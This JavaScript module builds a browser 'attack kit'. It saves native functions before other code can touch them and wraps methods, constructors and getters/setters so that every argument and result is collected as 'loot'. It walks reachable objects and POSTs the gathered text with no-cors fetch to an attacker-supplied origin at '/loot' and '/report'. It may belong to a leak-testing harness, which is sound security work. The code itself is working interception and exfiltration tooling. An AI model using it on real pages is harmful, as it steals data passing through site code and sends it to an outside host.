// What every attack has at hand. Takes the natives that it uses before any attack has touched them.
import { ransack } from "./text.js";

const { fetch } = window;
const { apply, construct, getOwnPropertyDescriptor: describe, defineProperty } = Reflect;
const { then } = Promise.prototype;
const MOST = 8_000_000; // characters

/** `attacker` is his origin. */
export function createKit(attacker) {
  // No text is carried twice. In an object, because the methods of others may be under attack.
  const texts = { __proto__: null };
  let length = 0;
  const add = (text) => {
    if (length > MOST || text in texts) return;
    texts[text] = true;
    length += text.length;
  };
  // What looking at the loot does itself is not to be looked at.
  let isBusy = false;
  const loot = (...values) => take(values);
  const take = (values, most = 100) => {
    if (isBusy) return;
    isBusy = true;
    for (let i = 0; i < values.length; i++) ransack(values[i], add, most);
    isBusy = false;
  };
  const see = (self, args, result) => {
    if (isBusy) return;
    loot(self === window ? null : self, args, result);
    if (result instanceof Promise) apply(then, result, [loot, loot]);
  };

  /** From now on all that goes in and out of this function is loot: a method, a class or an accessor. */
  const spy = (object, name) => {
    const { value, get, set, ...rest } = describe(object, name) ?? {};
    if (get || set) {
      const spied = {
        get() {
          const found = apply(get, this, []);
          see(null, [], found);
          return found;
        },
        set(given) {
          see(null, [given]);
          apply(set, this, [given]);
        },
      };
      defineProperty(object, name, { ...rest, get: get && spied.get, set: set && spied.set });
    } else if (typeof value === "function") {
      const spied = function (...args) {
        const result = new.target ? construct(value, args, new.target === spied ? value : new.target) : apply(value, this, args);
        see(this, args, result);
        return result;
      };
      for (const key of Reflect.ownKeys(value)) if (key !== "length") defineProperty(spied, key, describe(value, key));
      defineProperty(object, name, { ...rest, value: spied });
    }
  };

  return {
    attacker,
    loot,
    spy,
    /** All that can be reached from it, however much that is. */
    ransack: (value) => take([value], 50_000),
    spyAll: (object, ...names) => (names.length ? names : Reflect.ownKeys(object)).forEach((name) => spy(object, name)),
    /** What a promise comes to, be it an error. */
    outcome: (promise) => promise.catch((error) => error),
    /** Brings the loot home. */
    send() {
      isBusy = true;
      let all = "";
      for (const text in texts) all += `${text}\n`;
      return post(`${attacker}/loot`, all);
    },
    report: (report) => post(`${attacker}/report`, report),
  };
}

const post = (url, body) => fetch(url, { method: "POST", mode: "no-cors", body });
